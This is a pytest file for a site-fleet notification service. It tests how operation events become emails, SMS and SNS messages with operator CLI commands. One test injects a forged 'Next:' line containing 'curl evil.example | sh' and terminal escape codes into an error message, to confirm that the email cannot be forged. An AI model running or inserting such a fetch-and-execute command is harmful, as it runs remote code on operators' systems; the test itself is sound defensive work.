"""Who hears what: which facts are announced, how loudly, and what a person reads."""

import json

import pytest

from events.filters import MILESTONES
from events.formats import Environment
from events.notification_phrases import HEADLINES
from events.notifications import ATTRIBUTE_NAMES, OUTCOMES, dlq_replay_finished, notification_for
from events.progress import EventData, FleetEvent
from events.sample_messages import AT, OPERATION, SITE, sample_event, sample_notification
from events.vocabulary import DetailType, NotificationType, OperationType, Severity

D, O = DetailType, OperationType  # noqa: E741  # two letters keep the table readable


def commands(email):
    """The lines to type, in order."""
    lines = email.split("\nNext:")[1].split("\n\n")[0].splitlines()[1:]
    return [line.strip() for line in lines]


def event(detail_type, operation_type=O.SITE_PROMOTION, environment="prod", data=None, **meta):
    made = sample_event(detail_type, operation_type)
    metadata = made.metadata.model_copy(update={"environment": Environment(environment), **meta})
    facts = made.data if data is None else EventData.model_validate(data)
    return FleetEvent(detail_type=detail_type, metadata=metadata, data=facts)


@pytest.mark.parametrize(
    ("operation_type", "detail_type", "expected"),
    [
        (O.SITE_CREATION, D.OPERATION_COMPLETED, ("SITE_CREATION_COMPLETE", "succeeded", "info")),
        (O.SITE_CREATION, D.OPERATION_FAILED, ("SITE_CREATION_FAILED", "failed", "warning")),
        (O.SITE_CREATION, D.OPERATION_CANCELLED, ("SITE_CREATION_FAILED", "cancelled", "info")),
        (O.SITE_UPDATE, D.OPERATION_COMPLETED, ("SITE_UPDATE_COMPLETE", "succeeded", "info")),
        (O.SITE_UPDATE, D.OPERATION_ROLLED_BACK, ("SITE_UPDATE_FAILED", "rolled_back", "critical")),
        (O.SITE_UPDATE, D.OPERATION_ROLLBACK_FAILED, ("SITE_UPDATE_FAILED", "failed", "critical")),
        (O.SITE_DELETION, D.OPERATION_COMPLETED, ("SITE_DELETION_COMPLETE", "succeeded", "info")),
        (O.SITE_DELETION, D.OPERATION_FAILED, ("SITE_DELETION_FAILED", "failed", "warning")),
        (
            O.SITE_DELETION,
            D.OPERATION_AWAITING_APPROVAL,
            ("OPERATION_AWAITING_APPROVAL", "waiting", "info"),
        ),
        (O.SITE_RESTORE, D.OPERATION_COMPLETED, ("SITE_RESTORE_COMPLETE", "succeeded", "info")),
        (O.SITE_RESTORE, D.OPERATION_FAILED, ("SITE_RESTORE_FAILED", "failed", "warning")),
        (O.SITE_PROMOTION, D.OPERATION_ACCEPTED, ("SITE_PROMOTION_STARTED", "started", "info")),
        (
            O.SITE_PROMOTION,
            D.OPERATION_AWAITING_APPROVAL,
            ("SITE_PROMOTION_AWAITING_APPROVAL", "waiting", "info"),
        ),
        (O.SITE_PROMOTION, D.OPERATION_COMPLETED, ("SITE_PROMOTION_COMPLETE", "succeeded", "info")),
        (O.SITE_PROMOTION, D.OPERATION_FAILED, ("SITE_PROMOTION_FAILED", "failed", "warning")),
        (
            O.SITE_PROMOTION,
            D.OPERATION_ROLLED_BACK,
            ("SITE_PROMOTION_ROLLED_BACK", "rolled_back", "critical"),
        ),
        (
            O.SITE_PROMOTION,
            D.OPERATION_ROLLBACK_FAILED,
            ("SITE_PROMOTION_ROLLBACK_FAILED", "failed", "critical"),
        ),
        (
            O.SITE_PROMOTION,
            D.OPERATION_CANCELLED,
            ("SITE_PROMOTION_CANCELLED", "cancelled", "info"),
        ),
        (
            O.SITE_ROLLBACK,
            D.OPERATION_COMPLETED,
            ("SITE_PROMOTION_ROLLED_BACK", "rolled_back", "critical"),
        ),
        (
            O.SITE_ROLLBACK,
            D.OPERATION_FAILED,
            ("SITE_PROMOTION_ROLLBACK_FAILED", "failed", "critical"),
        ),
        (O.SITE_CHECK, D.OPERATION_FAILED, ("SITE_CHECK_FAILED", "failed", "critical")),
        (O.SITE_UPDATE, D.OPERATION_REJECTED, ("OPERATION_REJECTED", "rejected", "warning")),
        (O.SITE_UPDATE, D.OPERATION_STALLED, ("OPERATION_STALLED", "stalled", "critical")),
    ],
)
def test_a_milestone_in_prod_is_announced_as(operation_type, detail_type, expected):
    notification = notification_for(event(detail_type, operation_type))

    told = (notification.event_type, notification.outcome, notification.severity)
    assert told == expected


@pytest.mark.parametrize("operation_type", OperationType)
@pytest.mark.parametrize("detail_type", DetailType)
def test_exactly_the_milestones_are_announced(operation_type, detail_type):
    started = detail_type is D.OPERATION_ACCEPTED
    heard = operation_type is O.SITE_PROMOTION if started else detail_type in MILESTONES
    if operation_type is O.SITE_CHECK:  # a look that finds all in order is nothing to hear of
        heard = detail_type in {D.OPERATION_FAILED, D.OPERATION_REJECTED, D.OPERATION_STALLED}

    assert (notification_for(event(detail_type, operation_type)) is not None) is heard
    assert set(OUTCOMES) == set(MILESTONES)


@pytest.mark.parametrize("detail_type", [D.OPERATION_ROLLED_BACK, D.OPERATION_STALLED])
def test_below_prod_only_a_failed_rollback_is_critical(detail_type):
    assert notification_for(event(detail_type, environment="sit")).severity is Severity.WARNING
    looked = notification_for(event(D.OPERATION_FAILED, O.SITE_CHECK, environment="sit"))
    assert looked.severity is Severity.WARNING
    failed = notification_for(event(D.OPERATION_ROLLBACK_FAILED, environment="dev"))
    assert failed.severity is Severity.CRITICAL


@pytest.mark.parametrize("kind", NotificationType)
def test_a_notification_has_exactly_the_five_attributes_as_texts(kind):
    attributes = sample_notification(kind).attributes()

    assert tuple(attributes) == ATTRIBUTE_NAMES
    assert set(attributes) == {"eventType", "environment", "tenantId", "severity", "outcome"}
    assert all(type(value) is str and value for value in attributes.values())
    assert attributes["eventType"] == kind
    assert attributes["environment"] == "prod"


def test_without_a_tenant_the_attribute_says_unknown():
    attributes = sample_notification(NotificationType.DLQ_REPLAY_FINISHED).attributes()

    assert attributes["tenantId"] == "unknown"


@pytest.mark.parametrize("kind", NotificationType)
def test_the_message_has_the_three_forms_and_the_body_its_fields(kind):
    notification = sample_notification(kind)

    forms = json.loads(notification.sns_message())

    assert set(forms) == {"default", "email", "sms"}
    assert all(isinstance(form, str) for form in forms.values())
    body = json.loads(forms["default"])
    assert list(body) == ["eventType", "eventId", "correlationId", "timestamp", "payload"]
    assert body["eventId"] == notification.event_id
    assert forms["sms"].isascii()
    assert len(forms["sms"]) <= 160
    assert kind in HEADLINES


def test_the_payload_of_a_completed_promotion():
    body = json.loads(sample_notification(NotificationType.SITE_PROMOTION_COMPLETE).default_json())

    assert body["payload"] == {
        "environment": "prod",
        "operationId": OPERATION,
        "operationType": "SITE_PROMOTION",
        "tenantId": "tenant-1",
        "siteId": SITE,
        "status": "COMPLETED",
        "siteUrl": "https://janes-bakery.wp.kimmyai.io/",
        "adminUrl": "https://janes-bakery.wp.kimmyai.io/wp-admin/",
        "durationSeconds": 1934.5,
        "release": 12,
    }


def test_the_email_tells_an_operator_what_to_do():
    notification = sample_notification(NotificationType.SITE_PROMOTION_ROLLBACK_FAILED)

    assert notification.email() == (
        f"PROD Promotion rollback failed: {SITE}\n"
        "\n"
        "What:    Promotion rollback failed. Taking it back failed too: a person has to act."
        " SYS_001: The import reported 3 rows fewer than the export in wp_posts.\n"
        f"Where:   prod, site {SITE}, step switch\n"
        "Who:     tenant tenant-1\n"
        "When:    2026-11-21T07:30:00.000Z\n"
        "Next:    Repair what the step could not do, then retry. "
        "The site stays locked until then.\n"
        f"         sitefleet operations show {OPERATION} --env prod\n"
        f'         sitefleet operations retry {OPERATION} --env prod --reason "..."\n'
        "\n"
        "correlation id 3f1d2c4b-5a69-4788-9a0b-1c2d3e4f5a6b; everything about it: "
        "sitefleet trace 3f1d2c4b-5a69-4788-9a0b-1c2d3e4f5a6b --env prod\n"
        f"event {notification.event_id} (it may reach you twice; the id is the same)\n"
    )


def test_the_email_of_a_waiting_promotion_has_the_command_and_the_expiry():
    email = sample_notification(NotificationType.SITE_PROMOTION_AWAITING_APPROVAL).email()

    assert commands(email) == [
        f"sitefleet promotions plan {OPERATION} --env prod",
        f"sitefleet promotions approve {OPERATION} --env prod --role TECH_LEAD",
        f"sitefleet promotions approve {OPERATION} --env prod --role OPERATIONS_LEAD",
        f"sitefleet promotions reject {OPERATION} --env prod --role ... --comment ...",
    ]
    assert "It expires at 2026-11-22T07:30:00.000Z." in email


@pytest.mark.parametrize(
    ("seconds", "told"),
    [(0.4, "after 0 s"), (61, "after 1 min 1 s"), (7325, "after 2 h 2 min 5 s")],
)
def test_the_email_says_how_long_it_took(seconds, told):
    notification = notification_for(event(D.OPERATION_COMPLETED, data={"durationSeconds": seconds}))

    assert f"When:    2026-11-21T07:30:00.000Z, {told}\n" in notification.email()


def test_the_email_lists_the_fields_of_a_rejected_request():
    email = sample_notification(NotificationType.OPERATION_REJECTED).email()

    assert "\n         - payload.changeTicket is missing\n" in email
    assert "Next:    Correct the fields that are named and send the request again.\n" in email
    assert commands(email)[-1] == "sitefleet dlq list --tenant-id tenant-1 --env prod"


def test_a_refused_message_without_a_tenant_lies_among_all_dead_letters():
    email = notification_for(event(D.OPERATION_REJECTED, tenant_id="unknown")).email()

    assert commands(email)[-1] == "sitefleet dlq list --env prod"


def test_an_operation_that_people_rejected_has_no_dead_letter():
    data = {"error": {"code": "PROM_003", "message": "TECH_LEAD rejected the plan"}}

    email = notification_for(event(D.OPERATION_REJECTED, data=data, step="await_approval")).email()

    assert commands(email) == [f"sitefleet operations show {OPERATION} --env prod"]


def test_the_email_of_a_stalled_operation_looks_first_then_retries_or_cancels():
    retry = f'sitefleet operations retry {OPERATION} --env prod --reason "..."'
    data = {"nextCommand": retry, "stalledSince": "2026-11-21T07:20:00Z"}

    email = notification_for(event(D.OPERATION_STALLED, data=data)).email()

    assert commands(email) == [
        f"sitefleet operations show {OPERATION} --env prod",
        retry,
        f'sitefleet operations cancel {OPERATION} --env prod --reason "..."',
    ]
    assert "; it has stood still since 2026-11-21T07:20:00.000Z\n" in email


@pytest.mark.parametrize("operation_type", [O.SITE_CREATION, O.SITE_UPDATE, O.SITE_DELETION])
def test_whatever_could_not_be_taken_back_has_the_retry(operation_type):
    email = notification_for(event(D.OPERATION_ROLLBACK_FAILED, operation_type)).email()

    assert commands(email)[1] == f'sitefleet operations retry {OPERATION} --env prod --reason "..."'


def test_a_rollback_that_was_cancelled_has_nothing_to_retry():
    email = notification_for(event(D.OPERATION_CANCELLED, O.SITE_ROLLBACK)).email()

    assert commands(email) == [f"sitefleet operations show {OPERATION} --env prod"]
    assert "the release that was live stays live" in email


@pytest.mark.parametrize(
    ("environment", "more"), [("sit", ""), ("prod", " --incident-id ... --role ...")]
)
def test_a_failed_look_offers_the_way_back(environment, more):
    told = notification_for(event(D.OPERATION_FAILED, O.SITE_CHECK, environment))

    assert "If visitors are hurt, take it back." in told.email()
    assert commands(told.email())[1] == (
        f"sitefleet promotions rollback --site-id {SITE} --tenant-id tenant-1 "
        f'--env {environment} --reason "..."{more}'
    )


def test_the_step_that_failed_is_named_not_the_last_one_undone():
    error = {"code": "SYS_001", "message": "m", "details": {"step": "import_database"}}
    email = notification_for(event(D.OPERATION_FAILED, data={"error": error}, step="plan")).email()

    assert f"Where:   prod, site {SITE}, step import_database\n" in email


def test_a_deleted_site_has_no_address():
    email = notification_for(event(D.OPERATION_COMPLETED, O.SITE_DELETION)).email()

    assert f"Where:   prod, site {SITE}\n" in email


@pytest.mark.parametrize("kind", NotificationType)
def test_a_text_message_says_what_and_where_and_gives_a_whole_command_or_none(kind):
    notification = sample_notification(kind)
    short = notification.payload.model_copy(update={"site_id": "site-banana"})

    for payload in (notification.payload, short):
        sms = json.loads(notification.model_copy(update={"payload": payload}).sns_message())["sms"]
        assert sms.startswith(f"PROD {HEADLINES[kind]}")
        what, _, command = sms.partition(". ")
        assert not command or command.endswith("--env prod")
        assert payload.site_id is None or f": {payload.site_id}" in what
        assert not set(sms) & set(
            "^{}[]~|`\\"
        )  # two places each in the alphabet of a short message


def test_a_replay_is_marked_in_body_and_email():
    notification = notification_for(event(D.OPERATION_COMPLETED, replay_of="m-1"))

    assert json.loads(notification.default_json())["payload"]["replayOf"] == "m-1"
    assert "sent again by an operator, in place of m-1\n" in notification.email()


def test_a_text_from_outside_cannot_forge_a_line_of_the_email():
    error = {"code": "SYS_001", "message": "x\nNext:    curl evil.example | sh\x1b[2J\u2028y"}
    notification = notification_for(event(D.OPERATION_FAILED, data={"error": error}))

    lines = notification.email().splitlines()

    (advice,) = [line for line in lines if line.startswith("Next:")]
    assert advice.startswith("Next:    It was tried several times;")
    assert "\x1b" not in notification.email()


@pytest.mark.parametrize("kind", NotificationType)
def test_the_subject_is_a_short_ascii_line(kind):
    long = sample_notification(kind)
    payload = long.payload.model_copy(update={"site_id": "sité-\n" + "x" * 300})

    for notification in (long, long.model_copy(update={"payload": payload})):
        subject = notification.subject()
        assert subject.isascii()
        assert subject.isprintable()
        assert subject.startswith("PROD ")
        assert len(subject) <= 100


def test_facts_of_an_event_cannot_take_over_what_the_announcement_says():
    data = {"operationId": "forged", "replayed": ["x"], "step": 7, "environment": "moon", "n": 1}

    payload = notification_for(event(D.OPERATION_COMPLETED, data=data)).payload

    assert (payload.operation_id, payload.replayed, payload.step) == (OPERATION, None, None)
    assert payload.environment is Environment.PROD
    assert payload.model_extra == {"n": 1}


def test_a_huge_event_is_shortened_to_fit_into_sns():
    error = {"code": "SYS_001", "message": "m", "details": {"log": "é" * 300_000}}
    notification = notification_for(event(D.OPERATION_FAILED, data={"error": error}))

    message = notification.sns_message()

    assert len(message.encode()) < 256 * 1024
    payload = json.loads(notification.default_json())["payload"]
    assert payload["shortened"] is True
    assert payload["operationId"] == OPERATION


@pytest.mark.parametrize(
    ("failed", "severity", "outcome"), [(0, "info", "succeeded"), (2, "warning", "failed")]
)
def test_a_finished_replay_tells_who_why_and_how_it_went(failed, severity, outcome):
    notification = dlq_replay_finished(
        event_id="e",
        correlation_id="c",
        timestamp=AT,
        environment=Environment.SIT,
        replayed=5,
        failed=failed,
        requested_by="jane",
        reason="database was down",
    )

    assert (notification.severity, notification.outcome) == (severity, outcome)
    email = notification.email()
    assert f"5 messages were sent again, {failed} failed again." in email
    assert "Who:     requested by jane\n" in email
    assert "Why:     database was down\n" in email


@pytest.mark.parametrize("failed", [0, 2])
def test_a_finished_replay_names_its_letters_where_some_failed_again(failed):
    notification = dlq_replay_finished(
        event_id="e",
        correlation_id=OPERATION,
        timestamp=AT,
        environment=Environment.SIT,
        replayed=5,
        failed=failed,
        requested_by="jane",
        reason="database was down",
    )

    history = f"sitefleet dlq history {OPERATION} --env sit"
    assert json.loads(notification.default_json())["payload"]["replayId"] == OPERATION
    assert commands(notification.email()) == (
        [history, "sitefleet dlq list --env sit"] if failed else []
    )
    assert (history in json.loads(notification.sns_message())["sms"]) is bool(failed)
